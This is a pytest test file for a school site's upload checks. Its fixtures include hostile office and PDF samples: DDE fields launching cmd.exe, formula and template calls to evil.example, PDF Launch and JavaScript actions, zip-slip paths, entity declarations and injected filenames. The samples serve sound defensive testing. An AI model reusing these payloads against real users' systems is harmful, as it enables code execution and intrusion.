"""Files handed in with a resource: what could do harm is refused in words or made harmless."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.test import RequestFactory
from PIL import Image

from core.handed_in import MOST_BYTES, OFFICE, BadFile, read
from core.middleware import TooLargeMiddleware
from schools.neutralising import neutral
from tests.schools.handing import HTML, SVG, handed_form, office, pdf, picture

RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.x/{kind}" Target="{to}" TargetMode="External"/></Relationships>'
)

FIELD = (
    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:fldChar/><w:r><w:instrText>{first}'
    "</w:instrText></w:r><w:r><w:instrText>{second}</w:instrText></w:r><w:fldChar/></w:p></w:hdr>"
)

OLDER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
# { { QUOTE 68 68 69 } c:\\… }: the letters of a command by their numbers.
QUOTED = (
    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldChar w:fldCharType="begin"/>'
    '<w:fldChar w:fldCharType="begin"/><w:instrText> QUOTE 68 68 69 </w:instrText><w:fldChar w:fldCharType="end"/>'
    '<w:instrText> cmd </w:instrText><w:fldChar w:fldCharType="end"/></w:hdr>'
)


def wide(side=20_000):
    """A picture by its head alone: nobody need draw it to refuse it."""
    parts = (b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)), (b"IDAT", b"")
    chunks = (struct.pack(">I", len(held)) + name + held + struct.pack(">I", zlib.crc32(name + held)) for name, held in parts)
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def locked_pdf():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def taken(content, name):
    return neutral(read(io.BytesIO(content), name=name, size=len(content), takes_office=True))


def scripted(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([])))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=launch)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])


# What is sent, under which name, and a piece of the sentence it is refused with.
REFUSED = {
    "SVG with a script": (SVG, "图.svg", "PDF"),
    "SVG that calls itself PNG": (SVG, "图.png", "PDF"),
    "HTML as PDF": (HTML, "教案.pdf", "PDF"),
    "a PDF that is only its first line": (b"%PDF-1.7\n" + HTML, "教案.pdf", "PDF"),
    "a program": (b"MZ" + bytes(400), "课件.pptx", "PDF"),
    "a plain archive": (office("a.txt"), "全部.zip", "压缩包"),
    "half a document": (office()[:-30], "教案.docx", "已损坏"),
    "a document of another program": (office("content.xml", mimetype="application/vnd.oasis"), "教案.odt", "另存为PDF"),
    "another archive that calls itself a document": (b"Rar!\x1a\x07\x01\x00" + bytes(40), "教案.docx", "压缩包"),
    "nothing": (b"", "教案.pdf", "空"),
    "a document of an older kind": (OLDER + bytes(600), "教案.doc", "旧格式"),
    "an office file that is locked": (OLDER + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "教案.docx", "密码"),
    "a photo as some telephones write it": (b"\x00\x00\x00\x18ftypheic" + bytes(40), "照片.jpg", "HEIC"),
    "a picture of 400 million pixels": (wide(), "图.png", "12,000"),
    "a picture of a kind that is not taken": (picture("TIFF"), "扫描.tif", "PDF"),
    "a locked PDF": (locked_pdf(), "教案.pdf", "密码"),
    "a PDF without a page": (pdf(lambda document: document.pages.__delitem__(0)), "教案.pdf", "没有页面"),
    "a macro document": (office(**{"word/vbaProject.bin": b"x"}), "教案.docx", "宏"),
    "a macro document by another name": (office(**{"word/VbaData.xml": b"x"}), "教案.docx", "宏"),
    "an old Excel macro sheet": (office("xl/workbook.xml", **{"xl/macrosheets/sheet1.xml": b"<x/>"}), "表.xlsx", "宏"),
    "an ActiveX part": (office(**{"word/activeX/activeX1.bin": b"x"}), "教案.docx", "宏"),
    "a document that says it has macros": (
        office(
            **{"[Content_Types].xml": '<Types><Override ContentType="application/x.document.macroEnabled.main+xml"/></Types>'}
        ),
        "教案.docm",
        "宏",
    ),
    "an object of another program": (office(**{"word/embeddings/oleObject1.bin": b"x"}), "教案.docx", "对象"),
    "an object in slides by another name": (
        office("ppt/presentation.xml", **{"ppt/embeddings/a.xls": OLDER + bytes(40)}),
        "课件.pptx",
        "对象",
    ),
    "an object that is only named": (
        office("ppt/presentation.xml", **{"ppt/slides/_rels/slide1.xml.rels": RELATION.format(kind="oleObject", to="a.dat")}),
        "课件.pptx",
        "对象",
    ),
    "a document within by another name": (
        office(**{"word/media/a.png": office(**{"word/vbaProject.bin": b"x"})}),
        "教案.docx",
        "宏",
    ),
    "a slide that starts a program": (
        office("ppt/presentation.xml", **{"ppt/slides/slide1.xml": '<s><hlinkClick action="ppaction://program"/></s>'}),
        "课件.pptx",
        "宏",
    ),
    "a link to a program": (
        office(
            "ppt/presentation.xml",
            **{"ppt/slides/_rels/slide1.xml.rels": RELATION.format(kind="hyperlink", to="file:///C:/a.exe")},
        ),
        "课件.pptx",
        "链接",
    ),
    "a link to a disk of another house": (
        office(**{"word/_rels/document.xml.rels": RELATION.format(kind="hyperlink", to="%5c%5cevil.example%5ca")}),
        "教案.docx",
        "链接",
    ),
    "a cell that starts a program": (
        office("xl/workbook.xml", **{"xl/worksheets/sheet1.xml": "<w><c><f>cmd|' /C calc'!A0</f></c></w>"}),
        "表.xlsx",
        "别处",
    ),
    "a cell that asks the web": (
        office(
            "xl/workbook.xml", **{"xl/worksheets/sheet1.xml": '<w><c><f>_xlfn.WEBSERVICE("http://evil.example/")</f></c></w>'}
        ),
        "表.xlsx",
        "别处",
    ),
    "a DDE link in a part with a name of its own": (
        office("xl/workbook.xml", **{"xl/other/a.dat": '<e xmlns="urn:x"><ddeLink ddeService="cmd"/></e>'}),
        "表.xlsx",
        "别处",
    ),
    "a field in a part with a name of its own": (
        office(**{"other/a.dat": FIELD.format(first="DDE", second="AUTO cmd")}),
        "教案.docx",
        "别处",
    ),
    "a field of the stricter kind of file": (
        office(
            **{
                "word/header1.xml": FIELD.replace(
                    "schemas.openxmlformats.org/wordprocessingml/2006", "purl.oclc.org/ooxml/wordprocessingml"
                ).format(first="DDE", second="AUTO cmd")
            }
        ),
        "教案.docx",
        "别处",
    ),
    "a field whose first word another field makes": (office(**{"word/header1.xml": QUOTED}), "教案.docx", "别处"),
    "zip-slip": (office(**{"../../etc/cron.d/x": b"x"}), "教案.docx", "名称"),
    "a nested archive": (office(**{"word/media/all.zip": office()}), "教案.docx", "压缩包"),
    "entities": (office(**{"word/x.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), "教案.docx", "实体"),
    "a macro document within": (office(**{"word/embeddings/a.docm": b"x"}), "教案.docx", "宏"),
    "macros two levels down": (
        office(**{"word/embeddings/a.xlsx": office("xl/workbook.xml", **{"xl/vbaProject.bin": b"x"})}),
        "教案.docx",
        "宏",
    ),
    "macros told in other letters": (
        office(**{"word/_rels/document.xml.rels": RELATION.format(kind="vba&#80;roject", to="media/a.png")}),
        "教案.docx",
        "宏",
    ),
    "a page set into the text": (office(**{"word/a.html": HTML}), "教案.docx", "宏"),
    "a page set into the text by another name": (
        office(**{"word/_rels/document.xml.rels": RELATION.format(kind="aFChunk", to="a.dat")}),
        "教案.docx",
        "宏",
    ),
    "a field that starts a program": (
        office(**{"word/header1.xml": FIELD.format(first="DDE", second='AUTO c:\\windows\\cmd.exe "/c calc"')}),
        "教案.docx",
        "别处",
    ),
    "a field that fetches a picture": (
        office(**{"word/header1.xml": FIELD.format(first=" includePicture ", second='"http://evil.example/a.png"')}),
        "教案.docx",
        "别处",
    ),
    "a table that asks the web": (
        office("xl/workbook.xml", **{"xl/connections.xml": '<c xmlns="urn:x"><webPr url="http://evil.example/"/></c>'}),
        "表.xlsx",
        "别处",
    ),
    "a picture from elsewhere behind a bracket": (
        office(
            **{
                "word/_rels/document.xml.rels": '<r><R Id="1" Type="http://schemas.x/image" Target="http://evil.example/?a>b"'
                ' TargetMode="&#69;xternal"/></r>'
            }
        ),
        "教案.docx",
        "别处",
    ),
    "a template from elsewhere in UTF-16": (
        office(
            **{
                "word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate", to="http://evil.example/t").encode(
                    "utf-16"
                )
            }
        ),
        "教案.docx",
        "别处",
    ),
    "entities in UTF-16": (
        office(**{"word/x.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")}),
        "教案.docx",
        "实体",
    ),
    "a part that is no XML": (office(**{"word/x.xml": b"<x>"}), "教案.docx", "损坏"),
    "a template from elsewhere": (
        office(**{"word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate", to="http://evil.example/t.dotm")}),
        "教案.docx",
        "别处",
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_u02_what_could_do_harm_is_refused_in_words(what):
    content, name, words = REFUSED[what]
    with pytest.raises(BadFile) as fault:
        taken(content, name)
    assert words in str(fault.value)


def test_a_bomb_is_refused_before_it_is_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", bytes(81 * 1024 * 1024))
    with pytest.raises(BadFile, match="解压"):
        taken(out.getvalue(), "教案.docx")


def test_a_pdf_keeps_its_pages_and_loses_what_runs():
    made = taken(pdf(scripted), "教案.pdf")
    with pikepdf.open(io.BytesIO(made.content)) as document:
        assert len(document.pages) == 1
        assert "/OpenAction" not in document.Root
        assert "/JavaScript" not in document.Root.get("/Names", {})
        assert "/A" not in document.pages[0].Annots[0]
    for word in (b"app.alert", b"calc.exe", b"/Launch"):
        assert word not in made.content


def written_in(document):
    """The same harm where no object of its own holds it: within a page, chained behind a harmless action, on a picture."""
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
    chained = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.gov.cn/"), Next=pikepdf.Array([launch]))
    square = pikepdf.Array([0, 0, 9, 9])
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=square, A=launch)
    astray = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/astray.exe"))
    disk = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=square, A=astray)
    other = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=square, A=chained)
    enclosed = document.make_stream(b"MZ evil")
    held = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=enclosed))
    clip = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=square, FS=held)
    document.pages[0].Annots = pikepdf.Array([link, disk, other, clip])
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=document.make_stream(b"<xfa>run()</xfa>"))


def test_harm_that_is_written_into_a_page_goes_too():
    given = pdf(written_in)
    words = (b"calc.exe", b"/Launch", b"MZ evil", b"run()", b"astray.exe")
    assert all(word in plain_bytes(given) for word in words), "the control"
    made = taken(given, "教案.pdf").content
    assert not [word for word in words if word in plain_bytes(made)]
    assert b"https://www.gov.cn/" in plain_bytes(made)


def plain_bytes(content):
    """The PDF with nothing packed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.generalized)
    return out.getvalue()


def test_a_photograph_of_several_pictures_as_telephones_write_them_is_one_picture():
    out = io.BytesIO()
    Image.new("RGB", (30, 20), "navy").save(out, "MPO", save_all=True, append_images=[Image.new("RGB", (30, 20), "red")])
    made = taken(out.getvalue(), "照片.jpg")
    assert (made.mime, made.name) == ("image/jpeg", "照片.jpg")
    assert len(made.content) < len(out.getvalue())


POLYGLOTS = {
    "PDF and archive": (pdf() + office(), "教案.pdf", b"PK\x03\x04"),
    "PDF and page": (pdf() + HTML, "教案.pdf", b"<script>"),
    "picture and page": (picture() + HTML, "图.png", b"<script>"),
    "picture and archive": (picture("JPEG") + office(), "图.jpg", b"PK\x03\x04"),
}


@pytest.mark.parametrize("what", POLYGLOTS)
def test_of_a_polyglot_one_tongue_is_left(what):
    content, name, other = POLYGLOTS[what]
    assert other in content, "the control"
    assert other not in taken(content, name).content


NAMES = {
    "a picture that calls itself PDF": (picture(), "教案.pdf", "教案.pdf.png"),
    "a PDF that calls itself HTML": (pdf(), "教案.html", "教案.html.pdf"),
    "a path": (pdf(), "../../etc/passwd.pdf", "passwd.pdf"),
    "a path of Windows": (pdf(), "C:\\私\\教案.pdf", "教案.pdf"),
    "written from right to left": (pdf(), "教案\u202efdp.exe", "教案fdp.exe.pdf"),
    "a line break": (pdf(), "教案\r\nX-Evil: 1.pdf", "教案X-Evil: 1.pdf"),
    "300 signs": (pdf(), "量" * 300 + ".pdf", "量" * 66 + ".pdf"),
    "nothing but an ending": (pdf(), ".pdf", "file.pdf"),
    "a macro document's ending on a plain document": (office(), "教案.docm", "教案.docm.docx"),
}


@pytest.mark.parametrize("what", NAMES)
def test_a_name_says_what_the_bytes_are_and_nothing_else(what):
    content, name, kept = NAMES[what]
    assert taken(content, name).name.replace(" ", "") == kept.replace(" ", "")


def test_what_an_office_program_writes_is_taken():
    for part in OFFICE:
        link = RELATION.format(kind="hyperlink", to="https://www.gov.cn/import?of=link").encode()
        assert taken(office(part, **{f"{part.partition('/')[0]}/_rels/x.xml.rels": link}), "件").mime == OFFICE[part]


HARMLESS = {
    "a link's address that bears a field's name": (
        "word/a.xml",
        FIELD.format(first="HYPERLINK", second=' "https://x.cn/import"'),
    ),
    "a formula": ("xl/worksheets/sheet1.xml", '<w><f>SUM(A1:A9)&amp;IF(B1,"|","")</f></w>'),
    "a drawing of an older kind": ("xl/drawings/vmlDrawing1.vml", "<xml><br><v:shape></xml>"),
    "a link within": ("word/_rels/document.xml.rels", RELATION.format(kind="hyperlink", to="#_Toc1")),
    "an address to write to": ("word/_rels/document.xml.rels", RELATION.format(kind="hyperlink", to="mailto:a@example.cn")),
    "a table within": ("word/embeddings/a.xlsx", office("xl/workbook.xml")),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_what_teachers_have_in_their_files_is_taken(what):
    name, part = HARMLESS[what]
    assert taken(office(**{name: part}), "教案.docx").name == "教案.docx"


def test_a_picture_that_moves_stands_still_and_is_one_picture():
    out = io.BytesIO()
    Image.new("RGB", (30, 20), "navy").save(out, "PNG", save_all=True, append_images=[Image.new("RGB", (30, 20), "red")])
    assert b"acTL" in out.getvalue(), "the control"
    assert b"acTL" not in taken(out.getvalue(), "图.png").content


def test_a_file_over_the_limit_is_refused_before_a_byte_is_read():
    class Unread(io.BytesIO):
        def read(self, *args):
            raise AssertionError("it was read")

    with pytest.raises(BadFile, match="8MB"):
        read(Unread(), name="大.pdf", size=MOST_BYTES + 1, takes_office=True)


def test_a_request_of_two_gigabytes_is_refused_before_a_byte_is_read(db):
    class Unread(io.BytesIO):
        def read(self, *args):
            raise AssertionError("it was read")

    request = RequestFactory().post("/cms/pages/add/schools/lessonpackpage/3/", CONTENT_LENGTH=str(2 * 1024**3))
    request._stream = request.environ["wsgi.input"] = Unread()
    answer = TooLargeMiddleware(lambda request: pytest.fail("it went on"))(request)
    assert answer.status_code == 413
    assert "太大" in answer.content.decode()


@pytest.mark.parametrize(("given", "name", "words"), [(SVG, "图.svg", "PDF"), (b"", "教案.pdf", "空")])
def test_the_form_says_at_the_field_why_a_file_is_refused_and_keeps_nothing(given, name, words, db):
    form = handed_form({"kind": "sheet", "title": ""}, given, name)
    assert not form.is_valid()
    assert words in str(form.errors["upload"])
    assert not form.instance.key
